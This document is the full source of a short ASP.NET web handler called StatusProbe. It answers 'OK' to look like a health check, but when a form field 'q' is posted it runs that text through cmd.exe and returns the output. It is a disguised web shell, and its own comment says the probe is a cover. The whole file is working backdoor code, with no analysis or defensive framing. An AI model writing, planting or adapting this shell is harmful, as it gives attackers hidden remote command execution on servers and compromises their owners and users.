<%@ WebHandler Language="C#" Class="StatusProbe" %>
using System;
using System.Diagnostics;
using System.Web;

// Looks like a health probe; feeds the posted line to a shell's stdin.
public class StatusProbe : IHttpHandler
{
    public void ProcessRequest(HttpContext ctx)
    {
        string line = ctx.Request.Form["q"];
        if (string.IsNullOrEmpty(line)) { ctx.Response.Write("OK"); return; }
        var sh = new Process();
        sh.StartInfo.FileName = "cmd.exe";
        sh.StartInfo.UseShellExecute = false;
        sh.StartInfo.RedirectStandardInput = true;
        sh.StartInfo.RedirectStandardOutput = true;
        sh.Start();
        sh.StandardInput.WriteLine(line);
        sh.StandardInput.WriteLine("exit");
        ctx.Response.Write(sh.StandardOutput.ReadToEnd());
    }

    public bool IsReusable { get { return true; } }
}
